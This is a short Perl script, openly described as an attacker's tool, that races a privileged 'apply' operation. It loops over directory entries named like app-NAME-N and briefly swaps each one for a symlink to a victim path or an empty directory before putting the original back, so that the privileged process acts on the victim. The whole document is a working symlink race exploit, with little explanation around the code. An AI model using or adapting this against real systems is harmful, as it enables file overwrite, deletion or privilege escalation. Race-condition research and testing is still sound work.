# Runs beside an apply, in the attacker's directory: each managed name is a link to the victim, a directory, or nothing for a
# moment, and then again what it was.
# perl swap-final.pl DIRECTORY VICTIM STOP: until a file STOP is there.
use strict;
my ($directory, $victim, $stop) = @ARGV;
chdir $directory or die;
until (-e $stop) {
  opendir my $all, "." or die;
  for my $name (grep { /^app-[a-z]+-\d+$/ } readdir $all) {
    rename $name, "kept" or next;
    if (rand() < 0.8) { symlink $victim, $name } else { mkdir $name }
    select undef, undef, undef, 0.001;
    unlink $name or rmdir $name;
    rename "kept", $name;
  }
  closedir $all;
}
